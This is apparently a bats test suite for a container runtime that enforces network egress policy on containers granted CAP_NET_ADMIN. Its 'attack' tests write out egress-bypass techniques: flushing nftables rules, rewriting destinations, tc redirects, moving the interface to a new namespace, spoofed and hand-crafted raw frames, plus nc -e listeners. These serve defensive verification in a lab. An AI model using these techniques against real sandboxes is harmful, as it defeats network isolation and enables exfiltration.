#!/usr/bin/env bats
# Containers that may change their own network (CAP_NET_ADMIN), held at the other end of their cables
# (`net_admin: outside`). The runtime runs in the suite's namespace, in which the cables end: nothing is put into the machine's
# own. What is refused there is seen by a tap at the cable's end, which comes first: the recorder does not look at that.
# shellcheck disable=SC2154,SC2016 # words of bats and the libraries; scripts that run elsewhere
bats_require_minimum_version 1.5.0
load lib/world
load lib/net
load lib/control

setup_file() {
    make_world
    require nft=nftables tc=iproute2 pgrep=procps
    make_net
    configure net_admin outside
}

teardown_file() {
    remove_all_containers || true
    end_net
    end_world
}

setup() {
    remember_what_is_there
    use_policy "$(to address "{ cidr: $allowed4, port: $sink }, { cidr: \"$allowed6\", port: $sink }")" \
        "$(to name '{ host: shared-good.example.test, ports: [80, 443] }')"
}

teardown() {
    [ -z "${nobody_is_left:-}" ] || clear_what_is_dead
    remove_all_containers
    retry_until unplugged 2
    retry_until unplugged 3
    configure net_admin outside
    [ -z "$(fences)" ] || fail "left: $(fences)"
    nothing_left_behind
    rm -f "$WORLD"/log/*
    forget_packets
}

runtime() { in_net "$RUNTIME" --root "$WORLD/root" "$@"; }
plain_runc() { in_net runc --root "$WORLD/root" "$@"; }

# plug NAMESPACE N: as the library does it; its far end has the index 1000+N.
eval "$(declare -f plug | sed 's/ip link add "\$far"/ip link add "$far" index "$((1000 + $2))"/')"

# The recorder looks at all but what comes out of the cables, which the fence sees after it.
start_recorder() {
    start_in_net tcpdump tcpdump -i any -y LINUX_SLL2 -Z root -n -U --immediate-mode -B 65536 -s 400 -w "$(capture_file)" \
        "not (ip src net 198.51.100.0/24 and ip dst net 198.51.100.0/24) and not (inbound and (ifindex 1002 or ifindex 1003))"
    daemon_answers tcpdump capture_is_complete
}

fences() { in_net nft list tables | grep sandtrace; }

# make_admin_box NAME CAPABILITY… -- COMMAND…: in a user namespace of its own, in which alone its capabilities count.
make_admin_box() {
    local name=$1 capabilities=(CAP_NET_ADMIN)
    shift
    while [ "$1" != -- ]; do
        capabilities+=("$1")
        shift
    done
    make_box "$name" "${@:2}"
    allow_capability "$name" "${capabilities[@]}"
    own_users "$name"
}

own_users() {
    edit_config "$(bundle_of "$1")" '.linux.namespaces += [{type: "user"}] |
        .linux.uidMappings = [{containerID: 0, hostID: 100000, size: 65536}] | .linux.gidMappings = .linux.uidMappings |
        .process.env += ["PATH=/usr/bin:/usr/sbin:/bin"]'
    chown -R 100000:100000 "$(bundle_of "$1")/rootfs"
    chmod 0755 "$WORLD/bundles" "$(bundle_of "$1")"
}

start_admin_box() {
    make_admin_box box "$@" -- sh -c 'trap "exit 0" TERM; while :; do sleep 0.1; done'
    start_box_of box 2
}

nothing_reached_others() { never_arrived "host $other4 or host $other6"; }

# it_still_works: by the rules, and nothing else.
it_still_works() { says ok connect "$allowed4" "$sink" hello; }

# ---- may it be? --------------------------------------------------------------------------------------------------------

@test "by default no container with CAP_NET_ADMIN is started, and the reason is told" {
    configure net_admin refuse
    run start_admin_box
    [ "$status" -ne 0 ]
    [[ $output == *"CAP_NET_ADMIN"*"net_admin: outside or allow"* ]]
    runtime delete --force "$(id_of box)" || true
}

@test "CAP_NET_ADMIN in the machine's user namespace reaches the machine's devices: no such container is started" {
    # What it could do: without us, a device of its own on the bridge that is outside.
    make_box box sh -c 'trap "exit 0" TERM; while :; do sleep 0.1; done'
    allow_capability box CAP_NET_ADMIN
    start_box_of box 2 plain_runc
    plainly_inside /usr/bin/ip link show eth0
    index=$(in_net cat /proc/self/net/dev_mcast | awk '$2 == "plug" { print $1; exit }')
    plainly_inside /usr/bin/ip link add link "if$index" name out0 link-netnsid 0 type macvlan mode bridge
    plainly_inside /usr/bin/ip link show out0
    plain_runc delete --force "$(id_of box)"
    retry_until unplugged 2
    rm -rf "$WORLD/bundles"
    # So it is not started.
    make_box box true
    allow_capability box CAP_NET_ADMIN
    run start_box_of box 2
    [ "$status" -ne 0 ]
    [[ $output == *"user namespace"* ]]
    runtime delete --force "$(id_of box)" || true
}

@test "in a user namespace of its own it does not reach the machine's devices" {
    start_admin_box CAP_NET_RAW CAP_SYS_ADMIN
    run -0 inside ip link show eth0
    index=$(in_net cat /proc/self/net/dev_mcast | awk '$2 == "plug" { print $1; exit }')
    run ! inside /usr/bin/ip link add link "if$index" name out0 link-netnsid 0 type macvlan mode bridge
    [[ $output == *"not permitted"* ]] || fail "$output"
    run ! inside ip link show out0
    remove_box
}

@test "a device that has no end to be held is no start" {
    make_admin_box box -- true
    cat >"$WORLD/macvlan" <<END
#!/bin/sh
pid=\$(jq .pid)
nsenter --net=$WORLD/netns ip link add link plug name mv0 type macvlan mode bridge
nsenter --net=$WORLD/netns ip link set mv0 netns "\$pid"
END
    chmod +x "$WORLD/macvlan"
    edit_config "$(bundle_of box)" '.hooks.prestart = [{path: $path}]' --arg path "$WORLD/macvlan"
    run start_box_of box 2
    [ "$status" -ne 0 ]
    [[ $output == *"mv0 can't be held from outside: it is no cable"* ]]
    runtime delete --force "$(id_of box)" || true
}

@test "a device without such an end that comes later is its end" {
    start_admin_box
    in_net ip link add link plug name mv0 type macvlan mode bridge
    in_net ip link set mv0 netns "/proc/$(cat "$NOTES/box.pid")/ns/net"
    retry_until runtime_status_is box stopped
    trace_is_complete "$(id_of box)"
    trace_has "$(id_of box)" '.event_type == "sensor" and .payload.name == "network" and .payload.state == "degraded" and (.payload.detail | contains("mv0"))'
}

# ---- what is allowed -----------------------------------------------------------------------------------------------

@test "what is allowed by its address works at first try, the rest never arrives" {
    start_admin_box CAP_NET_RAW
    says ok connect "$allowed4" "$sink" hello
    says ok connect "$allowed6" "$sink" hello
    run -0 inside net udp "$allowed4" "$sink" datagram
    run -0 inside net udp "$allowed6" "$sink" datagram
    retry_until noted ".text == \"datagram\""
    says ECONNREFUSED connect "$other4" "$sink" secret
    says ECONNREFUSED connect "$other6" "$sink" secret
    says ECONNREFUSED connect "$allowed4" 80 secret
    tries udp "$other4" "$sink" secret
    tries raw-udp "$other4" "$sink" secret
    tries packet plain eth0 "$other4" "$sink" secret
    nothing_reached_others
    run ! text_arrived secret
    allowed_on_trace "$(at "$allowed4" "$sink")"
    refused_on_trace "$(at "$other4" "$sink")"
    trace_has "$(id_of box)" '.event_type == "lifecycle" and (.payload | tostring | contains("held from outside"))'
    [ -n "$(fences)" ]
    remove_box
    [ -z "$(fences)" ]
}

@test "three hundred connections, one after the other and at once, all arrive" {
    start_admin_box
    run -0 inside /usr/bin/python3 -c "
import socket
for i in range(100):
    for a in '$allowed4', '$allowed6':
        s = socket.create_connection((a, $sink)); s.sendall(b'one'); s.close()
held = [socket.create_connection(('$allowed4', $sink)) for i in range(100)]
for s in held: s.sendall(b'many')
for s in held: s.close()"
    retry_until eval '[ "$(count_noted ".text == \"one\"")" -eq 200 ] && [ "$(count_noted ".text == \"many\"")" -eq 100 ]'
    remove_box
}

@test "names can be asked for that the policy allows, by UDP; no connection goes by a name" {
    start_admin_box
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
    says REFUSED dns "$dns4" 53 evil.test A
    run ! name_arrived evil.test
    run ! inside curl -sS -m 5 http://shared-good.example.test/
    run ! served '.host == "shared-good.example.test"'
    never_arrived "host $shared4"
    retry_until trace_has "$(id_of box)" "$is_egress and $was_refused and (.verdict.reason | contains(\"CAP_NET_ADMIN\"))"
    run ! inside net dns-tcp "$dns4" 53 shared-good.example.test A
    never_arrived "tcp and host $dns4"
    remove_box
}

@test "a limit of bytes, which could not be kept, is no permission" {
    use_policy "$(to limited "{ cidr: $allowed4, port: $sink }" 'max_bytes_per_call: 10000')"
    start_admin_box
    refuses connect "$allowed4" "$sink" secret
    never_arrived "host $allowed4"
    retry_until trace_has "$(id_of box)" "$is_egress and $was_refused and (.verdict.reason | contains(\"counted\"))"
    remove_box
}

@test "who may come in gets answers" {
    start_admin_box
    inside sh -c 'nc -l -p 9000 -e echo answer >/dev/null 2>&1 & nc -u -l -p 9001 -e cat >/dev/null 2>&1 &' 3>&-
    retry_until eval 'in_net bash -c "exec 5<>/dev/tcp/'"$box4"'/9000 && head -n 1 <&5" | grep -q answer'
    remove_box
}

@test "who may not come in gets none" {
    sed -i 's/network_ingress: allow/network_ingress: deny/' "$WORLD/policies/net-$BATS_TEST_NUMBER.yaml"
    start_admin_box
    inside sh -c 'nc -l -p 9000 -e echo answer >/dev/null 2>&1 &' 3>&-
    run ! in_net timeout 2 bash -c "exec 5<>/dev/tcp/$box4/9000 && head -n 1 <&5"
    never_arrived "src host $box4 and tcp port 9000"
    remove_box
}

@test "a reload closes what the new policy refuses, also for flows that go on" {
    use_policy "$(to address "{ cidr: $allowed4, port: $sink }, { cidr: $other4, port: $sink }")"
    make_admin_box box -- sh -c "net pulse udp $other4 $sink & net pulse udp $allowed4 $sink"
    start_box_of box 2
    retry_until arrived "dst host $other4 and dst port $sink"
    retry_until arrived "dst host $allowed4 and dst port $sink"
    use_policy "$(to address "{ cidr: $allowed4, port: $sink }")"
    run -0 sandtrace reload "$(id_of box)"
    retry_until is_silent "dst host $other4 and dst port $sink"
    time=$(now)
    retry_until eval '[ -n "$(packets_after '"$time"' "dst host $allowed4 and dst port $sink")" ]'
    remove_box
}

@test "of two containers in one network the other one takes the fence over" {
    start_admin_box
    make_admin_box mate -- sh -c 'trap "exit 0" TERM; while :; do sleep 0.1; done'
    edit_config "$(bundle_of mate)" '.linux.namespaces |= map(
        if .type == "network" then .path = "/proc/\($pid)/ns/net" elif .type == "user" then .path = "/proc/\($pid)/ns/user" else . end)' \
        --arg pid "$(cat "$NOTES/box.pid")"
    runtime run --detach --bundle "$(bundle_of mate)" "$(id_of mate)" </dev/null >"$NOTES/mate.log" 2>&1 3>&- || fail "$(cat "$NOTES/mate.log")"
    table=$(fences)
    runtime delete --force "$(id_of box)"
    trace_is_complete "$(id_of box)"
    retry_until trace_has "$(id_of mate)" '.event_type == "sensor" and .payload.name == "network" and .payload.state == "on"'
    run runtime exec "$(id_of mate)" net connect "$allowed4" "$sink" hello
    [ "$output" = ok ]
    run runtime exec "$(id_of mate)" net connect "$other4" "$sink" secret
    [ "$output" = ECONNREFUSED ]
    [ "$(fences)" = "$table" ]
    nothing_reached_others
    runtime delete --force "$(id_of mate)"
    trace_is_complete "$(id_of mate)"
    [ -z "$(fences)" ]
}

# ---- ways around -----------------------------------------------------------------------------------------------------

@test "control: where nothing is held from outside, a flow is sent elsewhere behind our rules" {
    configure net_admin allow
    start_admin_box CAP_NET_RAW
    it_still_works
    inside nft "add table ip x; add chain ip x o { type filter hook postrouting priority 400; };
        add rule ip x o ip daddr $allowed4 udp dport $sink ip daddr set $other4"
    tries udp "$allowed4" "$sink" escaped
    retry_until arrived "dst host $other4 and udp port $sink"
    retry_until noted '.text == "escaped" and .to == "'"$other4"'"'
    [ -z "$(fences)" ]
    remove_box
}

@test "attack: flushing and deleting rules within" {
    start_admin_box CAP_NET_RAW
    inside nft flush ruleset || true
    inside nft delete table inet sandtrace || true
    inside nft delete table netdev sandtrace || true
    tries connect "$other4" "$sink" secret
    tries udp "$other4" "$sink" secret
    nothing_reached_others
    run ! text_arrived secret
    it_still_works
    remove_box
}

@test "attack: a table of its own sends an allowed flow elsewhere, behind our rules" {
    start_admin_box CAP_NET_RAW
    it_still_works
    inside nft "add table ip x; add chain ip x o { type filter hook postrouting priority 400; };
        add rule ip x o ip daddr $allowed4 udp dport $sink ip daddr set $other4"
    inside nft "add table ip6 x; add chain ip6 x o { type filter hook postrouting priority 400; };
        add rule ip6 x o ip6 daddr $allowed6 ip6 daddr set $other6"
    tries udp "$allowed4" "$sink" secret
    tries udp "$allowed6" "$sink" secret
    tries connect "$allowed6" "$sink" secret
    inside nft list table ip x | grep -q "daddr set $other4"
    nothing_reached_others
    run ! text_arrived secret
    remove_box
}

@test "attack: at the interface itself, behind our guard there, packets are edited" {
    start_admin_box CAP_NET_RAW
    it_still_works
    run -0 inside net udp "$allowed4" "$sink" opens
    inside nft "add table netdev x; add chain netdev x o { type filter hook egress device eth0 priority 500; };
        add rule netdev x o ip daddr $allowed4 counter ip daddr set $other4"
    # The same by tc; not every kernel has the action.
    inside sh -c "tc qdisc add dev eth0 clsact && tc filter add dev eth0 egress protocol ip u32 match ip dst $allowed4/32 \
        action pedit ex munge ip dst set $other4 pipe csum ip and udp and tcp" || true
    tries udp "$allowed4" "$sink" secret
    tries connect "$allowed4" "$sink" secret
    inside nft list table netdev x | grep -q 'packets [1-9]' || inside tc -s filter show dev eth0 egress | grep -q 'Sent [1-9]'
    nothing_reached_others
    run ! text_arrived secret
    remove_box
}

# away DEVICE SCRIPT: run by a shell in a namespace of the container's own, to which the device is taken when it is there. What it says.
away() {
    printf 'echo >/workspace/there\nwhile ! ip link set %s up 2>/dev/null; do sleep 0.05; done\n%s\n' "$1" "$2" \
        >"$(bundle_of box)/rootfs/workspace/away"
    inside sh -c 'rm -f /workspace/there
        unshare -n sh /workspace/away >/workspace/said 2>&1 &
        while [ ! -e /workspace/there ]; do sleep 0.05; done
        ip link set "$0" netns $!
        wait $!
        code=$?
        cat /workspace/said
        exit $code' "$1"
}

# by_a_cable_within SCRIPT: run in a namespace of the container's own, at the end `within0` of a cable whose other end, `within1`, is in
# the box. With what makes a datagram in a frame. Before it: what is set up in the box.
by_a_cable_within() {
    cat >"$(bundle_of box)/rootfs/workspace/within.py" <<'END'
import socket, struct, sys, time
def summed(b):
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16: n = (n & 0xffff) + (n >> 16)
    return struct.pack("!H", ~n & 0xffff)
def frame(mac, src, dst, text):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(text), 9, 0, 64, 17, 0, socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    return bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\1\x08\0" + h[:10] + summed(h) + h[12:] + struct.pack("!HHHH", src[1], dst[1], 8 + len(text), 0) + text
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind(("within0", 0))
END
    printf '%s\n' "$1" >>"$(bundle_of box)/rootfs/workspace/within.py"
    away within0 'until ip link show within0 | grep -q LOWER_UP; do sleep 0.05; done
/usr/bin/python3 /workspace/within.py'
}

cable_within() {
    inside sh -c 'ip link add name within0 type veth peer name within1 && ip link set within1 up && ip addr add 10.99.0.1/24 dev within1'
}

@test "attack: tc sends frames on to the interface, past all hooks of ours" {
    start_admin_box CAP_NET_RAW CAP_SYS_ADMIN
    it_still_works
    run -0 inside net udp "$allowed4" "$sink" opens
    cable_within
    inside sh -c 'tc qdisc add dev within1 clsact && tc filter add dev within1 ingress protocol ip u32 match u32 0 0 action mirred egress redirect dev eth0'
    mac=$(in_net ip -o link show plug | sed 's/.*ether \([^ ]*\) .*/\1/')
    by_a_cable_within "for to in '$other4', '$allowed4': s.send(frame('$mac', ('$box4', 4000), (to, $sink), b'sent-on'))"
    retry_until noted '.text == "sent-on" and .to == "'"$allowed4"'"' # so it goes, and only to what is open
    nothing_reached_others
    remove_box
}

@test "attack: a query for an allowed name becomes another one behind our rules" {
    start_admin_box CAP_NET_RAW
    inside nft 'add table ip x; add chain ip x o { type filter hook postrouting priority 400; };
        add rule ip x o udp dport 53 @th,168,32 set 0x6576696c'
    tries dns "$dns4" 53 shared-good.example.test A
    run ! name_arrived eviled-good.example.test
    run ! text_arrived eviled
    inside nft delete table ip x
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
    remove_box
}

@test "attack: the interface is taken to a namespace without rules of ours" {
    start_admin_box CAP_NET_RAW CAP_SYS_ADMIN
    it_still_works
    away eth0 "ip link set lo up
ip addr add $box4/16 dev eth0
ip addr add $box6/64 dev eth0 nodad
ip route add default via $gateway4
ip -6 route add default via $gateway6
net udp $other4 $sink secret
net udp $other6 $sink secret
net raw-udp $other4 $sink secret
net packet plain eth0 $other4 $sink secret
net dns $dns4 53 evil.test A
timeout 2 net connect $other4 $sink secret
timeout 2 net connect $other6 $sink secret
net connect $allowed4 $sink from-away"
    inside sh -c '! ip link show eth0' # it is gone from here
    # What is open is open, and nothing else.
    retry_until noted '.what == "data" and (.text | startswith("from-away"))'
    nothing_reached_others
    run ! text_arrived secret
    run ! name_arrived evil.test
    remove_box
}

@test "attack: devices made on the interface, other addresses, frames by hand" {
    start_admin_box CAP_NET_RAW
    it_still_works
    inside ip link add mv0 link eth0 type macvlan mode bridge
    inside sh -c "ip link set mv0 up && ip addr add 10.77.0.99/16 dev mv0 && ip route add $other4 via $gateway4 dev mv0"
    tries udp "$other4" "$sink" secret
    tries packet plain mv0 "$other4" "$sink" secret
    inside ip route del "$other4"
    inside ip link del mv0
    # The addresses of somebody else.
    inside sh -c 'ip link set eth0 down && ip link set eth0 address 02:00:00:00:00:77 && ip link set eth0 up'
    inside sh -c "ip addr add 10.77.0.98/16 dev eth0; ip route replace default via $gateway4 src 10.77.0.98"
    for way in plain direct marked; do tries packet "$way" eth0 "$other4" "$sink" secret; done
    tries udp "$other4" "$sink" secret
    # A bridge with the interface in it.
    inside sh -c 'ip link add br0 type bridge && ip link set br0 up && ip link set eth0 master br0 && ip addr add 10.77.0.97/16 dev br0'
    tries packet plain br0 "$other4" "$sink" secret
    nothing_reached_others
    run ! text_arrived secret
    remove_box
}

@test "attack: tagged frames, packets with a route of their own, and pieces do not pass for what is open" {
    start_admin_box CAP_NET_RAW CAP_SYS_ADMIN
    it_still_works
    run -0 inside net udp "$allowed4" "$sink" opens
    cat >"$(bundle_of box)/rootfs/workspace/frames.py" <<'END'
import socket, struct, sys, time
def summed(b):
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16: n = (n & 0xffff) + (n >> 16)
    return struct.pack("!H", ~n & 0xffff)
mac, src, dst, other, port = bytes.fromhex(sys.argv[1].replace(":", "")), *map(socket.inet_aton, sys.argv[2:5]), int(sys.argv[5])
def ip(data, options=b"", frag=0, proto=17, to=dst):
    h = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(data), 9, frag, 64, proto, 0, src, to) + options
    return h[:10] + summed(h) + h[12:] + data
def udp(text): return struct.pack("!HHHH", 4000, port, 8 + len(text), 0) + text
while True:
    try: s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); s.bind(("eth0", 0)); break
    except OSError: time.sleep(0.05)
head = mac + b"\2\0\0\0\0\1"
for f in (head + b"\x81\0\0\7" + b"\x08\0" + ip(udp(b"secret-tagged")),
          head + b"\x08\0" + ip(udp(b"secret-routed"), b"\x83\x07\x04" + other + b"\0"),
          head + b"\x08\0" + ip(b"secret-piece" * 4, frag=2),
          head + b"\x08\0" + ip(udp(b"secret-other"), to=other),
          head + b"\x88\xb5" + b"secret-kind" * 5,
          head + b"\x08\x06" + bytes.fromhex("0001080006040001") + b"secret-in-arp-and-longer-than-that",
          head + b"\x08\0" + ip(udp(b"plain-one"))):
    time.sleep(0.05)
    s.send(f)
END
    mac=$(in_net cat /proc/self/net/arp >/dev/null; in_net ip -o link show plug | sed 's/.*ether \([^ ]*\) .*/\1/')
    # From a namespace in which no guard of ours drops them first.
    away eth0 "/usr/bin/python3 /workspace/frames.py $mac $box4 $allowed4 $other4 $sink"
    retry_until noted '.text == "plain-one"'
    run ! text_arrived secret
    nothing_reached_others
    remove_box
}

@test "attack: a caller that never came gets no answer" {
    start_admin_box CAP_NET_RAW CAP_SYS_ADMIN
    cable_within
    mac=$(inside ip -o link show within1 | sed 's/.*ether \([^ ]*\) .*/\1/')
    inside /usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 9001))
open("/workspace/listens", "w")
text, who = s.recvfrom(100)
for i in range(3): s.sendto(b"secret", who)
print(text, who)' >"$NOTES/heard" 2>&1 3>&- &
    retry_until exists "$(bundle_of box)/rootfs/workspace/listens"
    # In the name of somebody outside.
    by_a_cable_within "s.send(frame('$mac', ('$other4', $sink), ('10.99.0.1', 9001), b'call'))"
    retry_until contains "$NOTES/heard" "$other4"
    allowed_in='.event_type == "network_ingress" and .payload.src_ip == "'"$other4"'" and .verdict.result == "allow"'
    retry_until trace_has "$(id_of box)" "$allowed_in"
    nothing_reached_others
    run ! text_arrived secret
    remove_box
}

@test "attack: a second interface, connected later, is held as the first one" {
    start_admin_box CAP_NET_RAW
    it_still_works
    in_net ip link add p3 index 1003 type veth peer name eth1 netns "/proc/$(cat "$NOTES/box.pid")/ns/net"
    in_net ip link set p3 master plug up
    retry_until eval 'in_net nft list table netdev "$(fences | cut -d" " -f3)" | grep -q "device \"p3\""'
    inside sh -c "ip link set eth1 up && ip addr add 10.77.0.3/16 dev eth1 && ip route add $other4 via $gateway4 dev eth1 && ip route add $allowed4 via $gateway4 dev eth1 src 10.77.0.3"
    tries udp "$other4" "$sink" secret
    tries packet plain eth1 "$other4" "$sink" secret
    says ok connect "$allowed4" "$sink" second
    # Somebody outside gives the cable another name: the kernel lets go of what guarded the old one.
    in_net ip link set p3 down
    in_net ip link set p3 name q3
    in_net ip link set q3 up
    retry_until eval 'in_net nft list table netdev "$(fences | cut -d" " -f3)" | grep -q "device \"q3\""'
    tries udp "$other4" "$sink" secret
    nothing_reached_others
    run ! text_arrived secret
    in_net ip link del q3
    remove_box
}

# ---- when we die -----------------------------------------------------------------------------------------------------

# start_admin_pulse: an approved flow that goes on, of a program that does away with all rules within as soon as it can. By a
# socket that it has already: without a monitor no such socket is made any more.
start_admin_pulse() {
    make_admin_box box CAP_NET_RAW -- sh -c "while :; do printf 'flush ruleset\ndelete table inet sandtrace\ndelete table netdev sandtrace\n'; sleep 0.1; done | nft -i >/dev/null 2>&1 &
        net pulse udp $allowed4 $sink"
    start_box_of box 2
    retry_until contains "$NOTES/box.log" ok
    retry_until noted '.from == "'"$box4"'"' || true
}

outpost_of() { pgrep -P "$(state_of "$(id_of "$1")" warden)" | grep -vx "$(state_of "$(id_of "$1")" worker)"; }

clear_what_is_dead() {
    plain_runc delete --force "$(id_of box)"
    rm -rf "$WORLD/run/$(id_of box)" "$WORLD"/run/.notify/* "$(trace_of "$(id_of box)")"
    for table in $(fences | cut -d' ' -f3); do in_net nft delete table netdev "$table"; done
}

no_rules_within() { ! nsenter --net="/proc/$(cat "$NOTES/box.pid")/ns/net" nft list tables | grep -q sandtrace; }

# falls_silent TIME: nothing of the box later than two seconds after it, though it has no rules any more.
falls_silent() {
    local late
    retry_until no_rules_within
    retry_until is_silent "src host $box4 and port $sink"
    late=$(packets_after "$(awk -v t="$1" 'BEGIN { printf "%.6f", t + 2.2 }')" "src host $box4 and port $sink")
    [ -z "$late" ] || fail "$(head -n 3 <<<"$late")"
}

@test "worker and warden killed, and the rules within flushed: nothing leaves" {
    nobody_is_left=yes
    start_admin_pulse
    worker=$(state_of "$(id_of box)" worker) warden=$(state_of "$(id_of box)" warden) outpost=$(outpost_of box)
    kill_together "$warden" "$worker"
    time=$(now)
    retry_until has_ended "$worker"
    retry_until has_ended "$outpost" # it has nobody to serve
    thaw_cgroups_of_world
    falls_silent "$time"
}

@test "all of ours killed at once, and the rules within flushed: nothing leaves after two seconds" {
    nobody_is_left=yes
    start_admin_pulse
    worker=$(state_of "$(id_of box)" worker) warden=$(state_of "$(id_of box)" warden) outpost=$(outpost_of box)
    kill_together "$warden" "$worker" "$outpost"
    time=$(now)
    retry_until has_ended "$worker"
    thaw_cgroups_of_world
    falls_silent "$time"
}

@test "who holds the fence killed: the container ends, and the trace says why" {
    start_admin_box
    it_still_works
    kill -KILL "$(outpost_of box)"
    retry_until runtime_status_is box stopped
    trace_is_complete "$(id_of box)"
    trace_has "$(id_of box)" '(.payload | tostring | contains("fence of its network"))'
    # What it could not take away itself.
    for table in $(fences | cut -d' ' -f3); do in_net nft delete table netdev "$table"; done
}

@test "worker killed: the container ends, and nothing of ours stays" {
    start_admin_box
    it_still_works
    kill -KILL "$(state_of "$(id_of box)" worker)"
    retry_until runtime_status_is box stopped
    trace_is_complete "$(id_of box)"
    retry_until eval '[ -z "$(fences)" ]'
}
